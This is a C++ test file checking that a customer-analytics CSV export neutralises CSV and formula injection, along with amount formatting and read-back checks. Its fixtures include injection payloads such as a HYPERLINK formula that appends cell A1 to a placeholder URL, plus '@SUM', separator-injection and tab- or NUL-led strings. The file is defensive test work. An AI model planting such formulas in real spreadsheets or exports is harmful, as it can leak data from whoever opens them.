// Tests for src/api/export: the per-customer CSV export, escaped against CSV and formula
// injection (shared/spec/bad-input.md §5.1 and row 37), through the Engine facade as the
// boundary calls it, and read back with custlens' own CSV reader.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "api/engine.h"
#include "api/export.h"
#include "io/csv_reader.h"
#include "metrics/analysis.h"

using namespace custlens;
using nlohmann::json;

namespace {

std::string text_cell(std::string_view text) {
  std::string out;
  append_csv_text(out, text);
  return out;
}

std::string money(double value) {
  std::string out;
  append_csv_money(out, value);
  return out;
}

// The `=` and `@` lines of the fuzzer case the spec names (its lines end in CR LF).
std::vector<std::string> afl_formula_lines() {
  std::ifstream in(std::string(CUSTLENS_SHARED_DIR) + "/corpus/weird/afl_fuzz_case_53.csv", std::ios::binary);
  REQUIRE(in.good());
  std::vector<std::string> out;
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty() && (line[0] == '=' || line[0] == '@')) out.push_back(line);
  }
  return out;
}

struct OrderLine {
  std::string customer_id;  // as written in the file, before the reader cleans it
  const char* date;
  const char* amount;
};

// An orders file with every id quoted (RFC 4180), one order per line.
std::string orders_csv(const std::vector<OrderLine>& rows) {
  std::string csv = "order_id,customer_id,order_date,amount\n";
  for (size_t i = 0; i < rows.size(); ++i) {
    std::string id;
    for (char ch : rows[i].customer_id) id += ch == '"' ? std::string("\"\"") : std::string(1, ch);
    csv += "O" + std::to_string(i + 1) + ",\"" + id + "\"," + rows[i].date + "," + rows[i].amount + "\n";
  }
  return csv;
}

// Loads `csv` and analyzes it as of 2024-03-31; the engine is left holding the analysis.
void load_and_analyze(Engine& engine, const std::string& csv) {
  REQUIRE(json::parse(engine.begin_load("orders", R"({"name": "payloads.csv"})"))["ok"]);
  REQUIRE(json::parse(engine.feed(csv.data(), csv.size()))["ok"]);
  REQUIRE(json::parse(engine.end_load())["ok"]);
  REQUIRE(json::parse(engine.analyze(R"({"asOf": "2024-03-31"})"))["ok"]);
}

std::vector<std::string> split_crlf(const std::string& text) {
  std::vector<std::string> lines;
  size_t at = 0;
  for (size_t end; (end = text.find("\r\n", at)) != std::string::npos; at = end + 2)
    lines.push_back(text.substr(at, end - at));
  CHECK(at == text.size());  // the last row ends with CRLF too
  return lines;
}

struct Table {
  std::vector<std::string> columns;
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> notices;  ///< the reader's warning codes
};

class Collector : public RowSink {
 public:
  explicit Collector(Table& t) : t_(t) {}
  void on_header(const std::vector<std::string>& columns, bool has_header) override {
    CHECK(has_header);
    t_.columns = columns;
  }
  void on_row(uint64_t, const std::string_view* fields, uint64_t) override {
    t_.rows.emplace_back(fields, fields + t_.columns.size());
  }

 private:
  Table& t_;
};

Table read_back(const std::string& csv) {
  Table t;
  Collector sink(t);
  CsvReader reader(CsvOptions(), sink);
  reader.feed(csv.data(), csv.size());
  reader.finish();
  for (const Notice& n : reader.notices()) t.notices.push_back(n.code);
  return t;
}

bool starts_like_formula(std::string_view s) {
  return !s.empty() && std::string_view("=+-@\t\r\n\0", 8).find(s[0]) != std::string_view::npos;
}

const std::string kSeparatorInjection = "=1+2\";=1+2";
const std::string kHyperlink = "=HYPERLINK(\"http://x?\"&A1,\"a\")";

// The payloads of §5.1 as customer ids, with the ids that test the quoting itself; one
// customer each, in this order, except c42 (three orders) and refunder (a purchase and a
// bigger return).
std::vector<OrderLine> payload_orders() {
  std::vector<OrderLine> rows = {
      {kSeparatorInjection, "2024-01-05", "0.10"},
      {kSeparatorInjection, "2024-02-05", "0.20"},
      {kHyperlink, "2024-01-06", "19.99"},
      {"-1+2", "2024-01-07", "5"},
      {"+86 138 0000 0000", "2024-01-08", "7.5"},
      {"@SUM(1+1)", "2024-01-09", "1"},
      {"c42", "2024-01-10", "1.00"},
      {"c42", "2024-02-10", "1.00"},
      {"c42", "2024-03-10", "2.00"},
      {"Smith, Jane", "2024-01-11", "12.345"},
      {"line1\nline2", "2024-01-12", "3"},
      {"\t=tabbed", "2024-01-13", "4"},
      {std::string("\0nul", 4), "2024-01-14", "2"},
      {"refunder", "2024-01-15", "10.00"},
      {"refunder", "2024-02-15", "-22.50"},  // a return bigger than the purchase: net -12.50
  };
  for (const std::string& id : afl_formula_lines()) rows.push_back({id, "2024-01-20", "1"});
  return rows;
}

}  // namespace

TEST_CASE("text cells are quoted, quotes doubled, formula starts prefixed with '", "[export]") {
  // The spec's worked examples (bad-input.md §5.1).
  CHECK(text_cell("=1+2\";=1+2") == "\"'=1+2\"\";=1+2\"");
  CHECK(text_cell("=HYPERLINK(\"http://x?\"&A1,\"a\")") == "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\"");
  // User text that looks like a number is still text.
  CHECK(text_cell("-1+2") == "\"'-1+2\"");
  CHECK(text_cell("+86 138 0000 0000") == "\"'+86 138 0000 0000\"");
  CHECK(text_cell("@SUM(1+1)") == "\"'@SUM(1+1)\"");
  // TAB, CR, LF (OWASP) and NUL (ASVS V1.2.10) at the start.
  CHECK(text_cell("\t=1") == "\"'\t=1\"");
  CHECK(text_cell("\r=1") == "\"'\r=1\"");
  CHECK(text_cell("\n=1") == "\"'\n=1\"");
  CHECK(text_cell(std::string("\0=1", 3)) == std::string("\"'\0=1\"", 6));
  // Elsewhere in the text the same characters are harmless: quoted, not prefixed.
  CHECK(text_cell("a=1,b-2\r\nc") == "\"a=1,b-2\r\nc\"");
  CHECK(text_cell("") == "\"\"");
  CHECK(text_cell("\"") == "\"\"\"\"");
}

TEST_CASE("amounts come from the engine's fixed-point units, 2 to 4 decimals", "[export]") {
  CHECK(money(0.1 + 0.2) == "0.30");  // 0.30000000000000004 as a double
  CHECK(money(-12.5) == "-12.50");    // engine numbers are never prefixed
  CHECK(money(0) == "0.00");
  CHECK(money(-0.00001) == "0.00");  // no "-0.00"
  CHECK(money(65.244) == "65.244");
  CHECK(money(64.6275) == "64.6275");
  CHECK(money(4.0 / 3) == "1.3333");  // a mean: rounded to the engine's 4 decimals
  CHECK(money(-2.0 / 3) == "-0.6667");
  CHECK(money(9747747.934) == "9747747.934");
  CHECK(money(123456789012.3456) == "123456789012.3456");
}

TEST_CASE("segment names never need quoting or a prefix", "[export]") {
  for (const char* name : kSegmentNames) {
    INFO(name);
    CHECK_FALSE(starts_like_formula(name));
    CHECK(std::string_view(name).find_first_of(",\"\r\n") == std::string_view::npos);
  }
}

TEST_CASE("customers_csv before analyze() is the no_analysis error", "[export]") {
  Engine engine;
  json r = json::parse(engine.customers_csv());
  CHECK_FALSE(r["ok"]);
  CHECK(r["error"]["code"] == "no_analysis");
}

TEST_CASE("row 37: the customer export escapes every injection payload", "[export]") {
  Engine engine;
  load_and_analyze(engine, orders_csv(payload_orders()));
  const std::string csv = engine.customers_csv();
  CHECK(csv.compare(0, 3, "\xEF\xBB\xBF") != 0);  // no BOM
  const std::vector<std::string> lines = split_crlf(csv);
  REQUIRE(lines.size() == 1 + 13);
  CHECK(lines[0] ==
        "customer_id,first_purchase,last_purchase,orders,total_spend,mean_order_value,recency_days,"
        "r_score,f_score,m_score,segment,lifecycle,cohort,btyd_frequency,t_x,T,btyd_monetary,repeat_spend");

  // Rows in first-seen order. Whole rows where they show a rule; the id cell for the rest.
  CHECK(lines[1] == "\"'=1+2\"\";=1+2\",2024-01-05,2024-02-05,2,0.30,0.15,55,5,5,1,Loyal Customers,active,2024-01,1,31,86,0.20,0.20");
  CHECK(lines[2].rfind("\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\",2024-01-06,", 0) == 0);
  CHECK(lines[3].rfind("\"'-1+2\",", 0) == 0);
  CHECK(lines[4].rfind("\"'+86 138 0000 0000\",", 0) == 0);
  CHECK(lines[5].rfind("\"'@SUM(1+1)\",", 0) == 0);
  CHECK(lines[6] == "\"c42\",2024-01-10,2024-03-10,3,4.00,1.3333,21,5,5,3,Champions,active,2024-01,2,60,81,1.50,3.00");
  CHECK(lines[7].rfind("\"Smith, Jane\",2024-01-11,2024-01-11,1,12.345,12.345,", 0) == 0);
  // A quoted line break stays inside the quoted cell: the row continues after it.
  CHECK(lines[8].rfind("\"line1\nline2\",2024-01-12,", 0) == 0);
  // The reader trims the TAB (input-rules.md, identifiers): `=tabbed` reaches the table.
  CHECK(lines[9].rfind("\"'=tabbed\",", 0) == 0);
  // A NUL is kept in the id, so the NUL rule applies to real data.
  CHECK(lines[10].rfind(std::string("\"'\0nul\",", 8), 0) == 0);
  // A negative net is an engine number: neither quoted nor prefixed.
  CHECK(lines[11] == "\"refunder\",2024-01-15,2024-01-15,1,-12.50,-12.50,76,4,3,1,Potential Loyalists,active,2024-01,0,0,76,0.00,0.00");
  CHECK(lines[12].rfind("\"'=\",", 0) == 0);
  CHECK(lines[13].rfind("\"'@\",", 0) == 0);
}

TEST_CASE("row 37: reading the export back gives the table's cells minus the marker", "[export]") {
  Engine engine;
  load_and_analyze(engine, orders_csv(payload_orders()));
  const json table = json::parse(engine.customers_json())["columns"];
  const Table back = read_back(engine.customers_csv());

  CHECK(back.notices == std::vector<std::string>{"nul_bytes"});  // the NUL id's, and nothing else
  REQUIRE(back.columns.size() == 18);
  REQUIRE(back.rows.size() == table["customer_id"].size());
  size_t marked = 0;
  for (size_t i = 0; i < back.rows.size(); ++i) {
    for (size_t k = 0; k < back.columns.size(); ++k) {
      const std::string& name = back.columns[k];
      const json& original = table.at(name)[i];
      std::string cell = back.rows[i][k];
      INFO("row " << i << ", column " << name << ": " << cell);
      if (name == "customer_id") {
        const std::string id = original.get<std::string>();
        if (starts_like_formula(id)) {
          REQUIRE(cell.rfind('\'', 0) == 0);
          cell.erase(0, 1);
          ++marked;
        }
        CHECK(cell == id);
      } else if (original.is_string()) {
        CHECK(cell == original.get<std::string>());
      } else if (name == "mean_order_value" || name == "btyd_monetary") {
        CHECK(std::strtod(cell.c_str(), nullptr) == Approx(original.get<double>()).margin(0.00005));
      } else {
        // Counts, days, scores, and the sums, which are exact: the same double.
        CHECK(std::strtod(cell.c_str(), nullptr) == original.get<double>());
      }
    }
  }
  CHECK(marked == 9);  // =1+2…, =HYPERLINK…, -1+2, +86…, @SUM, =tabbed, NUL, =, @
}

TEST_CASE("an analysis with no customers exports the header alone", "[export]") {
  Engine engine;
  load_and_analyze(engine, "customer_id,order_date,amount\n,2024-01-05,10\n");  // a guest order
  CHECK(engine.customers_csv() ==
        "customer_id,first_purchase,last_purchase,orders,total_spend,mean_order_value,recency_days,"
        "r_score,f_score,m_score,segment,lifecycle,cohort,btyd_frequency,t_x,T,btyd_monetary,repeat_spend\r\n");
}

TEST_CASE("dates at both ends of the plausible range are written as the table has them", "[export]") {
  // Labels are made once per day of the data's range (1970-2099 at most for orders).
  Engine engine;
  REQUIRE(json::parse(engine.begin_load("orders", "{}"))["ok"]);
  const std::string csv = "customer_id,order_date,amount\na,1970-01-01,10\nb,2099-12-30,20\na,2099-12-31,5\n";
  REQUIRE(json::parse(engine.feed(csv.data(), csv.size()))["ok"]);
  REQUIRE(json::parse(engine.end_load())["ok"]);
  REQUIRE(json::parse(engine.analyze("{}"))["ok"]);
  const json table = json::parse(engine.customers_json())["columns"];
  REQUIRE(table["first_purchase"] == json::array({"1970-01-01", "2099-12-30"}));
  const Table back = read_back(engine.customers_csv());
  REQUIRE(back.rows.size() == 2);
  CHECK(back.rows[0][1] == "1970-01-01");
  CHECK(back.rows[0][2] == "2099-12-31");
  CHECK(back.rows[0][12] == "1970-01");
  CHECK(back.rows[1][1] == "2099-12-30");
  CHECK(back.rows[1][2] == "2099-12-30");
  CHECK(back.rows[1][12] == "2099-12");
}
